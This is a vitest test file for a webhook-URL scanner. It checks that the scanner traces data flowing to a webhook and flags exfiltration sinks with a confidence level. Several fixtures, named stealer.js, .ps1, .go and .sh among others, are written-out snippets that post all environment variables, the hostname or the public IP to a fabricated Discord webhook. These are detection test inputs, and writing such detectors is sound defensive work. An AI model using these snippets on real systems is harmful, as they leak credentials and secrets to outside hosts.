// Which URL does the sending: the flow from a URL's literal to its name, to the call that sends,
// to what the call sends — across a whole file, through one helper function, in several languages;
// the evidence names the lines and the finding carries a confidence. Benign uses stay credentials.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { scanCommand } from '../../src/app/scan.js';
import { flowsOf } from '../../src/detect/flow.js';
import type { Finding } from '../../src/types.js';
import { webhook } from '../support/fabricate.js';

const dir = mkdtempSync(join(tmpdir(), 'hookscan-flow-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function findingsOf(name: string, text: string): Promise<Finding[]> {
  writeFileSync(join(dir, name), text);
  const r = await scanCommand({ paths: [name], cwd: dir, format: 'json', failOn: 'none' });
  return r.result.findings;
}
const filler = (n: number, comment = '#') => Array.from({ length: n }, (_, i) => `${comment} line ${i}: ordinary code`).join('\n');

describe('flow: the sending call far from the URL', () => {
  it('Python: URL on line 1, requests.post at the end of a 2,000-line file', async () => {
    const d = webhook('discord');
    const [f] = await findingsOf('far.py', `WEBHOOK = "${d.url}"\nimport os, requests\n${filler(2000)}\nrequests.post(WEBHOOK, json=dict(os.environ))\n`);
    expect(f.kind).toBe('exfil-sink');
    expect(f.confidence).toBe('high');
    expect(f.evidence).toContain('line 2003 posts os.environ to the Discord webhook on line 1');
  });

  it('through a helper that takes the URL as a parameter', async () => {
    const d = webhook('discord');
    const text = `import os, requests\nHOOK = "${d.url}"\n\ndef send(url, data):\n    requests.post(url, json=data)\n\n${filler(300)}\nsend(HOOK, {"env": dict(os.environ)})\n`;
    const [f] = await findingsOf('helper.py', text);
    expect(f.confidence).toBe('high');
    expect(f.evidence?.[0]).toMatch(/^line 307 posts os\.environ to the Discord webhook on line 2$/);
  });

  it('what the call sends is followed one level through the names it passes', async () => {
    const d = webhook('discord');
    const text = `import socket, requests\nHOOK = "${d.url}"\npayload = {"h": socket.gethostname(), "ip": requests.get("https://api.ipify.org").text}\n${filler(100)}\nrequests.post(HOOK, json=payload)\n`;
    const [f] = await findingsOf('payload.py', text);
    expect(f.kind).toBe('exfil-sink');
    expect(f.evidence?.[0]).toBe('line 104 posts host and user information (socket.gethostname()) and the public IP address (api.ipify.org) to the Discord webhook on line 2');
  });

  it.each([
    ['stealer.js', (u: string) => `const HOOK = "${u}";\n${filler(80, '//')}\nfetch(HOOK, { method: "POST", body: JSON.stringify(process.env) });\n`, 'process.env', 82],
    ['stealer.ps1', (u: string) => `$hook = "${u}"\n${filler(60)}\nInvoke-RestMethod -Uri $hook -Method Post -Body (Get-ChildItem env: | Out-String)\n`, 'all environment variables (env:)', 62],
    ['stealer.go', (u: string) => `package main\nconst hook = "${u}"\n${filler(60, '//')}\nfunc main() {\n  b, _ := json.Marshal(os.Environ())\n  http.Post(hook, "application/json", bytes.NewReader(b))\n}\n`, 'all environment variables', 65],
    ['stealer.sh', (u: string) => `HOOK="${u}"\n${filler(60)}\ncurl -s -X POST -d "$(env)" "$HOOK"\n`, 'all environment variables (env)', 62],
  ])('%s', async (name, make, what, line) => {
    const d = webhook('discord');
    const [f] = await findingsOf(name, make(d.url));
    expect(f.confidence).toBe('high');
    expect(f.evidence?.[0]).toMatch(new RegExp(`^line ${line} posts ${what.replace(/[()]/g, '\\$&')} to the Discord webhook on line \\d+$`));
  });
});

describe('flow: attribution', () => {
  it('two webhooks far apart: the evidence lands only on the one the data is sent to', async () => {
    const s = webhook('slack');
    const d = webhook('discord');
    const text = `import os, requests\nSLACK = "${s.url}"\nDISCORD = "${d.url}"\n${filler(100)}\nrequests.post(SLACK, json={"text": "deploy done"})\n${filler(100)}\nrequests.post(DISCORD, json=dict(os.environ))\n`;
    const fs = await findingsOf('two.py', text);
    const slack = fs.find((f) => f.provider === 'slack')!;
    const discord = fs.find((f) => f.provider === 'discord')!;
    expect(slack.kind).toBe('credential');
    expect(slack.evidence).toBeUndefined();
    expect(discord.kind).toBe('exfil-sink');
    expect(discord.evidence?.[0]).toBe('line 205 posts os.environ to the Discord webhook on line 3');
  });
});

describe('benign uses stay credentials', () => {
  it.each([
    ['ci-notify.js', (u: string) => `const HOOK = "${u}";\nawait fetch(HOOK, { method: "POST", body: JSON.stringify({ text: \`build \${process.env.GITHUB_SHA} passed\` }) });\n`],
    ['alert.py', (u: string) => `import socket, requests\nHOOK = "${u}"\ndef alert(msg):\n    requests.post(HOOK, json={"text": f"{socket.gethostname()}: {msg}"})\n`],
    ['contact.js', (u: string) => `const HOOK = "${u}";\nform.onsubmit = () => fetch(HOOK, { method: "POST", body: JSON.stringify({ text: document.getElementById("message").value, from: document.getElementById("email").value }) });\n`],
    ['bot.py', (u: string) => `import requests\nHOOK = "${u}"\nrequests.post(HOOK, json={"content": "Good morning! Today's standup is at 10:00."})\n`],
  ])('%s', async (name, make) => {
    const [f] = await findingsOf(name, make(webhook('discord').url));
    expect(f.kind).toBe('credential');
    expect(f.confidence).toBeUndefined();
  });
});

describe('confidence', () => {
  it('nearness only is medium; a "replace with your webhook" comment lowers it and never suppresses', async () => {
    const d = webhook('discord');
    const near = await findingsOf('near.py', `import os\nenv = dict(os.environ)\nHOOK = "${d.url}"\n`);
    expect(near[0].kind).toBe('exfil-sink');
    expect(near[0].confidence).toBe('medium');
    const templ = await findingsOf('templ.py', `import os, requests\n# replace with your webhook URL\nHOOK = "${d.url}"\nrequests.post(HOOK, json=dict(os.environ))\n`);
    expect(templ[0].kind).toBe('exfil-sink');
    expect(templ[0].confidence).toBe('medium');
    expect(templ[0].evidence?.at(-1)).toMatch(/asks to replace it/);
  });

  it('JSON, SARIF and text carry it', async () => {
    const d = webhook('discord');
    writeFileSync(join(dir, 'out.py'), `import os, requests\nHOOK = "${d.url}"\n${filler(40)}\nrequests.post(HOOK, json=dict(os.environ))\n`);
    const json = JSON.parse((await scanCommand({ paths: ['out.py'], cwd: dir, format: 'json', failOn: 'none' })).rendered);
    expect(json.findings[0].confidence).toBe('high');
    const sarif = JSON.parse((await scanCommand({ paths: ['out.py'], cwd: dir, format: 'sarif', failOn: 'none' })).rendered);
    expect(sarif.runs[0].results[0].properties.confidence).toBe('high');
    expect(sarif.runs[0].results[0].message.text).toContain('Confidence: high.');
    const text = (await scanCommand({ paths: ['out.py'], cwd: dir, format: 'text', failOn: 'none' })).rendered;
    expect(text).toContain('confidence: high (a call in the file sends the gathered data to this URL)');
  });
});

describe('flow reading stays linear', () => {
  it('4× the sending calls and lines take less than 10× the time', () => {
    const d = webhook('discord');
    const make = (n: number) => Buffer.from(`HOOK = "${d.url}"\n${Array.from({ length: n }, (_, i) => `requests.post(HOOK, json={"n": ${i}, "h": x${i}})\nx${i} = compute(${i})\n`).join('')}`);
    const spans = (b: Buffer) => [{ start: b.indexOf('https'), end: b.indexOf('"', b.indexOf('https')), secret: 's' }];
    const time = (b: Buffer) => {
      const t = process.hrtime.bigint();
      for (let k = 0; k < 3; k++) flowsOf(b, spans(b), 'python');
      return Number(process.hrtime.bigint() - t);
    };
    const small = make(2000);
    const big = make(8000);
    time(small);
    const ratio = time(big) / time(small);
    expect(ratio).toBeLessThan(10);
  });
});
